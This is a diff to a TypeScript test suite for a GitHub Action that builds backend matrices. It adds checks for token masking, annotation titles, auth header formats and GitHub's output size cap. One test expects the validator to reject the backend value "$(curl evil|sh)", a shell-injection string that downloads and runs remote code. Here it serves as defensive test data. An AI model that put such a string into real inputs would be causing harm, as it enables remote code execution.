@@ -8,7 +8,8 @@ import path from 'node:path';
 import fc from 'fast-check';
 import { loadMatrixFile } from '../src/core/matrix-file.js';
 import { plan } from '../src/core/plan.js';
-import { formatOutput } from '../src/action/runner.js';
+import { outputBytes } from '../src/core/outputs.js';
+import { formatOutput } from '../src/action/output-file.js';
 import { startFakeGitHub, type FakeGitHub } from './support/fake-github.js';
 import { demo } from './support/fixtures.js';
 import {
@@ -27,7 +28,7 @@ async function run(c: ActionCase): Promise<ActionRun & { raw: string | undefined
   const dir = workspace(c.files);
   const r = await runAction(c, dir);
   const file = path.join(dir, '.runner-output');
-  return { ...r, raw: existsSync(file) ? readFileSync(file, 'utf8') : undefined };
+  return { ...r, raw: existsSync(file) ? readFileSync(file, 'utf8') || undefined : undefined };
 }
 
 // ---------------------------------------------------------------------------
@@ -278,7 +279,7 @@ describe('validation of values that reach shells, tags and output names', () => 
     expect(r.annotations).toEqual([
       {
         level: 'error',
-        props: { file: MATRIX, line: '2', col: '14' },
+        props: { title: 'backend-matrix: matrix file', file: MATRIX, line: '2', col: '14' },
         message: `\`backend\` "$(curl evil|sh)" is not allowed: ${NAME_RULE}`,
       },
       { level: 'error', props: {}, message: `${MATRIX} has 1 error(s); see the annotations above` },
@@ -307,7 +308,7 @@ describe('annotations', () => {
     expect(r.annotations).toEqual([
       {
         level: 'warning',
-        props: { file: FILE, line: String(line), col: '3' },
+        props: { title: 'backend-matrix: matrix file', file: FILE, line: String(line), col: '3' },
         message: `unknown top-level key "${EVIL}" is ignored (expected include, includeDarwin, rules)`,
       },
     ]);
@@ -323,7 +324,11 @@ describe('annotations', () => {
     });
     expect(r.code).toBe(1);
     expect(r.annotations.map((a) => [a.level, a.props.file, a.message])).toEqual([
-      ['error', FILE, `unknown key "${EVIL}" (expected ignore, sources, shared, build, merge-fields)`],
+      [
+        'error',
+        FILE,
+        `unknown key "${EVIL}" (expected ignore, sources, shared, build, merge-fields)`,
+      ],
       ['error', undefined, `${FILE} has 1 error(s); see the annotations above`],
     ]);
     expect(commandLines(r.stdout).filter((l) => /^::(warning|error)/.test(l))).toHaveLength(2);
@@ -434,9 +439,15 @@ describe('the token', () => {
     server = undefined;
   });
 
+  /**
+   * The first line registers the token with the runner's masker (`::add-mask::`,
+   * which the runner consumes and never prints); no other line may hold it.
+   */
   const expectNoToken = (r: ActionRun & { raw: string | undefined }): void => {
+    const [first, ...rest] = r.stdout.split('\n');
+    expect(first).toBe(`::add-mask::${TOKEN}`);
     for (const where of [
-      r.stdout,
+      rest.join('\n'),
       r.stderr,
       r.summary,
       r.raw ?? '',
@@ -457,7 +468,7 @@ describe('the token', () => {
     ],
     ['a bad input', { files, inputs: { 'max-jobs': '999' } }, 1],
     [
-      'an unexpected failure',
+      'GITHUB_OUTPUT unset',
       { files, inputs: { 'force-all': 'true' }, env: { GITHUB_OUTPUT: '' } },
       1,
     ],
@@ -485,7 +496,9 @@ describe('the token', () => {
     });
     expect(r.code).toBe(0);
     expect(r.outputs!['changed-backends']).toBe('["vllm"]');
-    expect(server.requests[0].headers.authorization).toBe(`Bearer ${TOKEN}`);
+    expect(server.requests[0].headers.authorization).toMatch(
+      new RegExp(`^(Bearer|token) ${TOKEN}$`),
+    );
     expectNoToken(r);
   });
 
@@ -535,4 +548,47 @@ it('plan() outputs hold the fields as parsed, for the hostile matrix', () => {
     maxJobs: 256,
   });
   expect(JSON.parse(new Map(p.outputs).get('matrix-singlearch')!)).toStrictEqual(doc);
+});
+
+// ---------------------------------------------------------------------------
+// (f) GitHub's 1,048,576-byte cap on a job's outputs, counted as it counts (UTF-16).
+
+describe('output size', () => {
+  /** A one-entry matrix whose outputs total exactly `chars` UTF-16 code units, and its blob's length. */
+  const matrixOf = (chars: number): { text: string; blob: number } => {
+    const doc = (n: number) => ({
+      include: [{ backend: 'big', 'tag-suffix': '-big', blob: 'é'.repeat(n) }],
+    });
+    const total = (n: number): number =>
+      outputBytes(
+        plan({
+          matrix: loadMatrixFile(JSON.stringify(doc(n)), MATRIX),
+          matrixPath: MATRIX,
+          change: { kind: 'all', cause: 'force-all is set' },
+          shards: 1,
+          maxJobs: 256,
+        }).outputs,
+      ) / 2;
+    // Each character of the blob is one code unit of one output.
+    expect(total(1000) - total(0)).toBe(1000);
+    const blob = chars - total(0);
+    return { text: JSON.stringify(doc(blob)), blob };
+  };
+
+  it('passes 500,000 characters (1,000,000 bytes) and fails 600,000 with both figures, writing nothing', async () => {
+    const [small, big] = [matrixOf(500_000), matrixOf(600_000)];
+    const [ok, over] = await Promise.all(
+      [small, big].map(({ text }) =>
+        run({ files: { [MATRIX]: text }, inputs: { 'force-all': 'true', audit: 'false' } }),
+      ),
+    );
+    expect(ok.code).toBe(0);
+    expect(JSON.parse(ok.outputs!['matrix-singlearch']).include[0].blob).toHaveLength(small.blob);
+    expect([over.code, over.raw]).toEqual([1, undefined]);
+    expect(over.annotations.map((a) => a.message)).toEqual([
+      expect.stringMatching(
+        /the outputs would total 1,200,000 bytes .* over GitHub's limit of 1,048,576 bytes/,
+      ),
+    ]);
+  });
 });
